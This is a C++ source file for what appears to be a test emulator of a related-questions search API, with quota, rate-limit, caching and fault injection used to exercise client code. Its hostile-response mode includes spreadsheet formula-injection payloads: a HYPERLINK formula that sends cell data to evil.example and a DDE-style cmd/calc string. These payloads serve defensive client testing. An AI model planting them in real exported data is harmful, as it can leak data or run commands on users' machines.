#include "paa/emulator/service.hpp"

#include "paa/emulator/json_text.hpp"
#include "paa/model/envelope.hpp"

#include <algorithm>
#include <cstdio>

namespace paa::emulator {

namespace chr = std::chrono;

bool is_well_formed_key(std::string_view key) {
  if (key.empty() || key.size() > 128) return false;
  for (char c : key) {
    bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '.' || c == '_' ||
              c == '-';
    if (!ok) return false;
  }
  return true;
}

void Reply::reset() {
  status = 0;
  body.clear();
  retry_after = 0;
  allow_get = false;
  fault = Fault::none;
  hostile = HostileMode::none;
  chunked = false;
  latency = chr::milliseconds{0};
  huge = false;
  logged = true;
  refuse = false;
  key_id.clear();
  q.reset();
  hl.reset();
  gl.reset();
  city.reset();
  cached = false;
  charged = false;
}

void append_envelope_head(std::string& out, bool cached, const KeyQuota& quota) {
  out += cached ? "{\"cached\":true,\"searchesLeft\":" : "{\"cached\":false,\"searchesLeft\":";
  append_int(out, quota.searches_left);
  out += ",\"payAsYouGoCreditsLeft\":";
  append_int(out, quota.payg_left);
  out += ",\"renewalDate\":\"";
  out += format_date(quota.announced_date);
  out += "\",\"result\":";
}

void format_log_line(std::string& out, const Reply& r, std::int64_t unix_ms, std::uint64_t conn) {
  out.clear();
  out += "{\"t\":";
  append_int(out, unix_ms);
  out += ",\"key_id\":";
  append_json_quoted(out, r.key_id);
  auto field = [&out](std::string_view name, const std::optional<std::string>& v) {
    out += ",\"";
    out += name;
    out += "\":";
    if (v) append_json_quoted(out, *v);
    else out += "null";
  };
  field("q", r.q);
  field("hl", r.hl);
  field("gl", r.gl);
  field("city", r.city);
  out += ",\"status\":";
  append_int(out, r.status);
  out += r.cached ? ",\"cached\":true" : ",\"cached\":false";
  out += r.charged ? ",\"charged\":true" : ",\"charged\":false";
  out += ",\"fault\":";
  std::string_view fault = fault_name(r.fault, r.hostile);
  if (fault.empty()) out += "null";
  else append_json_quoted(out, fault);
  out += ",\"conn\":";
  append_int(out, static_cast<std::int64_t>(conn));
  out += "}\n";
}

HugeBody::HugeBody(std::string head, std::size_t target_bytes) {
  prefix_ = std::move(head) + R"({"question":"huge","related":["huge"],"children":[)";
  suffix_ = "]}}";
  std::string probe;
  append_element(probe, 0);
  element_bytes_ = probe.size();
  std::size_t fixed = prefix_.size() + suffix_.size();
  count_ = target_bytes > fixed + element_bytes_ ? (target_bytes - fixed) / (element_bytes_ + 1) : 1;
  total_ = fixed + count_ * element_bytes_ + (count_ - 1);
}

void HugeBody::append_element(std::string& out, std::size_t i) const {
  char number[16];
  std::snprintf(number, sizeof number, "%010zu", i);
  out += R"({"question":"Huge question )";
  out += number;
  out += R"(?","answer":")";
  out.append(200, 'x');
  out += R"(","url":"https://example.com/huge","title":"Huge","children":[]})";
}

bool HugeBody::next(std::string& out, std::size_t max) {
  out.clear();
  if (phase_ == 0) {
    out += prefix_;
    phase_ = 1;
  }
  while (phase_ == 1 && out.size() + element_bytes_ + 1 <= max) {
    if (next_element_ > 0) out += ',';
    append_element(out, next_element_);
    if (++next_element_ == count_) phase_ = 2;
  }
  if (phase_ == 2 && out.size() + suffix_.size() <= max) {
    out += suffix_;
    phase_ = 3;
  }
  return !out.empty();
}

Service::Service(ServiceConfig config, TimePoint now)
    : config_(std::move(config)),
      endpoint_(config_.prefix + "/alsoask"),
      quota_(config_.keys, config_.renewal_date.ok() ? config_.renewal_date : first_of_next_month(now),
             config_.renew_after),
      cache_(config_.cache_ttl, config_.cache_entries),
      rate_(config_.rate_limit, config_.keys.size()),
      faults_(config_.faults, config_.seed),
      outage_(config_.outage),
      trees_(config_.tree),
      tree_cache_(config_.tree_cache_entries) {}

std::optional<TimePoint> Service::outage_up_at() {
  std::lock_guard lock(mutex_);
  return outage_.up_at();
}

void Service::error(Reply& out, unsigned status, std::string_view message) {
  out.status = status;
  out.body.assign("{\"error\":");
  append_json_quoted(out.body, message);
  out.body += '}';
}

void Service::count(const Reply& out) {
  ++requests_;
  ++status_counts_[out.status];
  std::string_view f = fault_name(out.fault, out.hostile);
  if (!f.empty()) {
    auto it = fault_counts_.find(f);
    if (it == fault_counts_.end()) fault_counts_.emplace(std::string(f), 1);
    else ++it->second;
  }
}

void Service::handle(const RequestView& req, TimePoint now, Reply& out) {
  out.reset();
  std::lock_guard lock(mutex_);
  std::string_view target = req.target;
  std::size_t qmark = target.find('?');
  std::string_view path = target.substr(0, qmark);
  std::string_view query = qmark == std::string_view::npos ? std::string_view{} : target.substr(qmark + 1);

  if (path == "/_emulator/stats" && req.method == "GET") {
    out.status = 200;
    out.logged = false;
    out.body = stats_json(now);
    return;
  }
  if (path != endpoint_) {
    out.key_id = "none";
    error(out, 404, "Not found");
    return count(out);
  }
  if (req.method != "GET") {
    out.key_id = "none";
    out.allow_get = true;
    error(out, 405, "Method not allowed");
    return count(out);
  }

  // Parameters are decoded first so that every log line shows them, whatever the outcome.
  bool malformed_query = !decode_parameters(query, out);
  std::optional<std::size_t> id = admit(req, malformed_query, now, out);
  if (!id) return count(out);
  Draw draw = draw_delivery(out);
  quota_.refresh(*id, now);
  if (!reply_with_fault(*id, draw.fault, out)) reply_with_answer(*id, draw.fault, now, out);
  count(out);
}

bool Service::decode_parameters(std::string_view query, Reply& out) {
  bool well_formed = true;
  while (!query.empty()) {
    std::size_t amp = query.find('&');
    std::string_view pair = query.substr(0, amp);
    query = amp == std::string_view::npos ? std::string_view{} : query.substr(amp + 1);
    std::size_t eq = pair.find('=');
    std::string_view raw_name = pair.substr(0, eq);
    std::string_view raw_value = eq == std::string_view::npos ? std::string_view{} : pair.substr(eq + 1);
    if (!percent_decode(raw_name, decode_buf_)) {
      well_formed = false;
      continue;
    }
    std::optional<std::string>* slot = decode_buf_ == "q"    ? &out.q
                                       : decode_buf_ == "hl"   ? &out.hl
                                       : decode_buf_ == "gl"   ? &out.gl
                                       : decode_buf_ == "city" ? &out.city
                                                               : nullptr;
    if (!slot || *slot) continue;  // unknown parameters are ignored; the first occurrence wins
    if (!percent_decode(raw_value, decode_buf_)) well_formed = false;
    *slot = decode_buf_;
  }
  return well_formed;
}

// The refusals, in the order the service checks them: a planned outage, the key, the
// parameters, the rate window. The key's id once the request may go on.
std::optional<std::size_t> Service::admit(const RequestView& req, bool malformed_query, TimePoint now,
                                          Reply& out) {
  if (auto down = outage_.on_request(now)) {
    out.key_id = "none";
    out.fault = Fault::outage;
    if (*down == OutageMode::unavailable) {
      error(out, 503, "Service Unavailable");
    } else {
      out.status = 0;
      out.refuse = true;
    }
    return std::nullopt;
  }
  if (!req.api_key) {
    out.key_id = "none";
    error(out, 401, "Invalid token");
    return std::nullopt;
  }
  if (!is_well_formed_key(*req.api_key)) {
    out.key_id = "invalid";
    error(out, 401, "Invalid token");
    return std::nullopt;
  }
  std::optional<std::size_t> found = quota_.find(*req.api_key);
  if (!found) {
    out.key_id = "unknown";
    error(out, 403, "Invalid API Key");
    return std::nullopt;
  }
  std::size_t id = *found;
  out.key_id = QuotaBook::key_id(id);
  if (!quota_.config(id).active) {
    error(out, 403, "Invalid API Key");
    return std::nullopt;
  }

  if (malformed_query) {
    error(out, 400, "Malformed query string: bad percent-encoding");
    return std::nullopt;
  }
  const std::pair<std::string_view, const std::optional<std::string>*> required[] = {
      {"q", &out.q}, {"hl", &out.hl}, {"gl", &out.gl}};
  for (const auto& [name, value] : required) {
    if (!*value || (*value)->empty()) {
      error(out, 400, std::string("Missing required parameter: ").append(name));
      return std::nullopt;
    }
  }
  const std::pair<std::string_view, const std::optional<std::string>*> texts[] = {
      {"q", &out.q}, {"hl", &out.hl}, {"gl", &out.gl}, {"city", &out.city}};
  for (const auto& [name, value] : texts) {
    if (*value && !is_valid_utf8(**value)) {
      error(out, 400, std::string("Invalid parameter: ").append(name).append(" is not valid UTF-8"));
      return std::nullopt;
    }
  }

  if (auto wait = rate_.admit(id, now)) {
    out.retry_after = static_cast<unsigned>(wait->count());
    error(out, 429, "Rate limit exceeded");
    return std::nullopt;
  }
  return id;
}

// This request's fault and delivery (chunked, latency), planted failures included.
Draw Service::draw_delivery(Reply& out) {
  Draw draw = faults_.draw();
  if (std::find(config_.fail_queries.begin(), config_.fail_queries.end(), *out.q) != config_.fail_queries.end()) {
    draw.fault = Fault::error_500;
  }
  out.chunked = draw.chunked;
  out.latency = draw.latency;
  out.fault = draw.fault;
  return draw;
}

// The faults that replace the answer, before anything is charged.
bool Service::reply_with_fault(std::size_t id, Fault fault, Reply& out) {
  switch (fault) {
    case Fault::error_500:  // nothing spent
      error(out, 500, "Internal server error");
      return true;
    case Fault::reset:  // nothing spent, nothing sent
      out.status = 0;
      return true;
    case Fault::invalid_json:  // a 200 the client cannot use: nothing spent
      out.status = 200;
      append_envelope_head(out.body, false, quota_.state(id));
      out.body += "{\"question\":";
      append_json_quoted(out.body, *out.q);
      out.body += ",\"related\":[\"\n<html><body><h1>502 Bad Gateway</h1></body></html>\n";
      return true;
    case Fault::hostile:  // test bodies: nothing spent
      out.hostile = config_.faults.hostile;
      out.status = 200;
      hostile_body(out, id);
      return true;
    default:
      return false;  // truncate, slow and charge-drop change only how a normal answer is delivered
  }
}

// The answer: from the cache or charged to the key, then the envelope around the tree.
void Service::reply_with_answer(std::size_t id, Fault fault, TimePoint now, Reply& out) {
  ResponseCache::make_key(key_buf_, *out.q, *out.hl, *out.gl, out.city);
  out.cached = cache_.lookup(key_buf_, now);
  if (!out.cached) {
    if (quota_.charge(id, now) == Charge::exhausted) {
      error(out, 429, "Rate limit exceeded");  // monthly exhaustion: no Retry-After
      return;
    }
    out.charged = true;
    cache_.store(key_buf_, now);
  }
  if (fault == Fault::charge_drop) {  // paid for, never delivered
    out.status = 0;
    return;
  }
  std::shared_ptr<const std::string> tree = tree_json(out);
  out.status = 200;
  out.body.reserve(tree->size() + envelope_overhead_bytes);
  append_envelope_head(out.body, out.cached, quota_.state(id));
  out.body += *tree;
  out.body += '}';
}

// The tree of the request in key_buf_, generated once and kept in the tree cache.
std::shared_ptr<const std::string> Service::tree_json(const Reply& out) {
  if (auto* hit = tree_cache_.find(key_buf_)) return *hit;
  TreeQuery tq{*out.q, *out.hl, *out.gl, std::nullopt};
  if (out.city) tq.city = *out.city;
  auto tree = std::make_shared<const std::string>(trees_.result_json(tq));
  tree_cache_.put(key_buf_, tree);
  return tree;
}

void Service::hostile_body(Reply& out, std::size_t id) {
  const KeyQuota& quota = quota_.state(id);
  std::string& b = out.body;
  switch (config_.faults.hostile) {
    case HostileMode::deep_nesting: {
      constexpr int levels = 10000;
      append_envelope_head(b, false, quota);
      b += "{\"question\":";
      append_json_quoted(b, *out.q);
      b += ",\"related\":[],\"children\":[";
      for (int i = 0; i < levels; ++i) b += "{\"question\":\"Deeper?\",\"children\":[";
      for (int i = 0; i < levels; ++i) b += "]}";
      b += "]}}";
      break;
    }
    case HostileMode::huge:
      append_envelope_head(b, false, quota);  // the server streams HugeBody(body) after the head
      out.huge = true;
      break;
    case HostileMode::invalid_utf8:
      append_envelope_head(b, false, quota);
      b += "{\"question\":\"caf\xC3\x28\",\"related\":[\"\xFF\xFE\"],\"children\":[{\"question\":\"Bad \xED\xA0\x80 "
           "surrogate?\",\"answer\":\"\xC0\xAF overlong\",\"children\":[]}]}}";
      break;
    case HostileMode::array_top_level:
      b += '[';
      append_envelope_head(b, false, quota);
      b += "{\"question\":";
      append_json_quoted(b, *out.q);
      b += ",\"related\":[],\"children\":[]}}]";
      break;
    case HostileMode::searches_left_string:
      b += "{\"cached\":false,\"searchesLeft\":\"";
      append_int(b, quota.searches_left);
      b += "\",\"payAsYouGoCreditsLeft\":";
      append_int(b, quota.payg_left);
      b += ",\"renewalDate\":\"" + format_date(quota.announced_date) + "\",\"result\":{\"question\":";
      append_json_quoted(b, *out.q);
      b += ",\"related\":[],\"children\":[]}}";
      break;
    case HostileMode::missing_result:
      append_envelope_head(b, false, quota);
      b.resize(b.size() - std::string_view(",\"result\":").size());
      b += '}';
      break;
    case HostileMode::formulas:
      // A usable answer: text cells a spreadsheet would evaluate, and a plain negative number.
      append_envelope_head(b, false, quota);
      b += "{\"question\":";
      append_json_quoted(b, *out.q);
      b += R"x(,"related":["=1+1","@SUM(A1:A2)"],"children":[{"question":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",)x"
           R"x("answer":"+cmd|' /C calc'!A0","url":"https://evil.example/a","title":"-2+3","children":[)x"
           R"x({"question":"\tTabbed question?","answer":"-3","url":"https://plain.example/b","title":"@title"},)x"
           R"x({"question":"Plain question?","answer":"=2*3","url":"https://plain.example/c","title":"Plain"}]}]}})x";
      break;
    case HostileMode::none:
      break;
  }
}

std::string Service::stats_json(TimePoint now) {
  // Called with mutex_ held from handle(); keys are refreshed so renewals show up here too.
  std::string s = "{\"requests\":";
  append_int(s, static_cast<std::int64_t>(requests_));
  s += ",\"status\":{";
  bool first = true;
  for (const auto& [status, n] : status_counts_) {
    if (!first) s += ',';
    first = false;
    s += '"';
    append_int(s, status);
    s += "\":";
    append_int(s, static_cast<std::int64_t>(n));
  }
  s += "},\"faults\":{";
  first = true;
  for (const auto& [name, n] : fault_counts_) {
    if (!first) s += ',';
    first = false;
    append_json_quoted(s, name);
    s += ':';
    append_int(s, static_cast<std::int64_t>(n));
  }
  s += "},\"cache_entries\":";
  append_int(s, static_cast<std::int64_t>(cache_.size()));
  s += ",\"keys\":[";
  for (std::size_t id = 0; id < quota_.size(); ++id) {
    quota_.refresh(id, now);
    const KeyQuota& q = quota_.state(id);
    if (id) s += ',';
    s += "{\"key_id\":\"" + QuotaBook::key_id(id) + "\",\"active\":";
    s += q.active ? "true" : "false";
    s += ",\"searchesLeft\":";
    append_int(s, q.searches_left);
    s += ",\"payAsYouGoCreditsLeft\":";
    append_int(s, q.payg_left);
    s += ",\"renewalDate\":\"" + format_date(q.announced_date) + "\"}";
  }
  s += "]}";
  return s;
}

}  // namespace paa::emulator
